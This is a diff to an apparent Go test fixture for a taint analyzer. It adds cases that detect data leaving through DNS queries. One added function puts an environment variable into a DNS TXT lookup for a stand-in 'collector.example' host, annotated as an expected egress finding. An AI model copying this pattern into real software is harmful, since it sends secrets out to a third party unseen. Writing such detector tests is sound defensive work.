@@ -58,6 +58,22 @@ func questionConstant(c *dns.Client) {
 	c.Exchange(m, "9.9.9.9:53") //~ ok
 }
 
+var shared = new(dns.Client)
+
+func questionMade() {
+	m := new(dns.Msg)
+	m = m.SetQuestion(os.Getenv("T")+".dns.collector.example.", dns.TypeTXT) //~ source(ENVIRONMENT) f90
+	m = m.SetEdns0(4096, false)
+	shared.Exchange(m, "9.9.9.9:53") //~ sink(egress.dns) f90, finding(traced) f90
+}
+
+func questionMadeConstant() {
+	m := new(dns.Msg)
+	m = m.SetQuestion("collector.example.", dns.TypeTXT)
+	m = m.SetEdns0(4096, false) //~ ok
+	shared.Exchange(m, "9.9.9.9:53") //~ ok
+}
+
 func qualified() {
 	net.LookupHost(dns.Fqdn(os.Getenv("T"))) //~ source(ENVIRONMENT) f11, sink(egress.dns) f11, finding(traced) f11
 	net.LookupHost(dns.Fqdn("collector.example")) //~ ok
